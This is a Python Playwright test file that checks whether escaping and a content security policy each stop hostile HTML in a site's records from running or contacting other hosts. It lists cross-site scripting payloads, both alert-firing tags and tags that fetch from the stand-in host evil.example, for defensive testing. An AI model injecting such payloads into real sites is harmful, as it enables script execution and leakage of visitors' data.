"""Each of the two walls alone keeps hostile texts from running or asking anybody for anything."""

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, expect

from tests.browser.test_reading import KINDS
from trials.attack import splice
from trials.hostile_site import HostileSite, build_hostile_site
from trials.payloads import make_payloads
from trials.watching import Seen, Watcher, serve

pytestmark = pytest.mark.browser

SAMPLE = make_payloads()[::37]
BARE = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"]
"""Payloads that run in every browser where nothing stops them."""
FETCHING = [
    "<img src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x';</style>",
    "<p style='background: url(//evil.example/x)'>x</p>",
    "<iframe src=//evil.example/x></iframe>",
    "<video src=//evil.example/x></video><audio src=//evil.example/x></audio>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<base href=//evil.example/><script src=x></script>",
    "<svg><image href=//evil.example/x /><use href=//evil.example/x#y /></svg>",
    "<input type=image src=//evil.example/x>",
]
"""Texts that ask another host for something where nothing stops them."""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> HostileSite:
    """A site whose records are full of payloads; it passed the last look at a site."""
    return build_hostile_site(tmp_path_factory.mktemp("hostile"), [*BARE, *FETCHING, *SAMPLE])


def _open(browser: Browser, site: Path, texts: list[str], *, bypass_policy: bool) -> Seen:
    """Pages that hold the texts raw, in title, description, attribute and body."""
    page = (site / "about/index.html").read_text(encoding="utf-8")
    with serve(site, lambda number: splice(page, texts[number])) as address:
        watcher = Watcher(browser, address, bypass_policy=bypass_policy)
        for number in range(len(texts)):
            watcher.open(f"spliced/{number}/")
        watcher.close()
    return watcher.seen


def test_escaped_and_cleaned_nothing_runs_without_the_policy(
    chromium: Browser, hostile: HostileSite
) -> None:
    """Pages of every kind of record show the texts as they were written."""
    assert len(hostile.shown) > 0.8 * len(SAMPLE)
    paths = [
        f"{file.parent.relative_to(hostile.site).as_posix()}/".removeprefix("./")
        for file in sorted(hostile.site.rglob("index.html"))
    ]
    with serve(hostile.site) as address:
        watcher = Watcher(chromium, address, bypass_policy=True)
        for path in paths:
            watcher.open(path, _compare(hostile.shown.get(path)))
        watcher.close()
    seen = watcher.seen
    assert (seen.executed, seen.requests, seen.left, seen.cookies) == ([], [], [], 0)


def _compare(payload: str | None) -> Callable[[Page], None]:
    def judge(page: Page) -> None:
        shown = page.locator("h1").text_content() or ""
        assert payload is None or shown.split() == payload.split()

    return judge


def test_under_the_policy_nothing_runs_that_stands_raw_in_a_page(
    chromium: Browser, hostile: HostileSite
) -> None:
    """As if nothing had been escaped or cleaned; what forwards a reader is refused elsewhere."""
    texts = [*BARE, *FETCHING, *[text for text in SAMPLE if "http-equiv" not in text]]
    seen = _open(chromium, hostile.site, texts, bypass_policy=False)
    assert (seen.executed, seen.requests, seen.left, seen.cookies) == ([], [], [], 0)
    assert seen.violations > len(BARE)


def test_without_either_wall_the_same_texts_run(chromium: Browser, hostile: HostileSite) -> None:
    """Else the two tests above would show nothing."""
    seen = _open(chromium, hostile.site, [*BARE, *FETCHING], bypass_policy=True)
    assert len(seen.executed) == len(BARE)
    assert len(seen.requests) >= len(FETCHING) - 2


@pytest.fixture
def complaints(page: Page) -> list[str]:
    """What the browser says in its console."""
    said: list[str] = []

    def note(message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            said.append(message.text)

    page.on("console", note)
    return said


def test_the_site_itself_lives_with_its_policy(
    page: Page, address: str, complaints: list[str]
) -> None:
    """Every kind of page, the search with a filter, each scheme, evidence: not one complaint."""
    for path in KINDS:
        page.goto(address + path)
    page.goto(f"{address}briefs/nine-or-nineteen/#ev-advance-2024-12-isw-euromaidan")
    page.locator("a.bw-fig").first.hover()
    page.keyboard.press("/")
    page.keyboard.type("advance")
    results = page.get_by_role("list", name="Results").get_by_role("link")
    expect(results.first).to_be_visible()
    page.get_by_label("Kind").select_option("Metric")
    expect(page.locator(".bw-search__kind").first).to_have_text("Metric")
    page.keyboard.press("Escape")
    page.keyboard.press("Escape")
    for choice in ("Light", "Dark", "Auto"):
        page.get_by_text(choice, exact=True).click()
    assert complaints == []


def test_a_chosen_scheme_is_there_when_a_page_is_first_drawn(page: Page, address: str) -> None:
    """The script that keeps it is a file, and runs before the text."""
    page.goto(address)
    page.get_by_text("Dark", exact=True).click()
    page.reload(wait_until="commit")
    page.wait_for_selector("main", state="attached")
    assert page.evaluate("document.documentElement.dataset.scheme") == "dark"
    expect(page.get_by_label("Dark", exact=True)).to_be_checked()
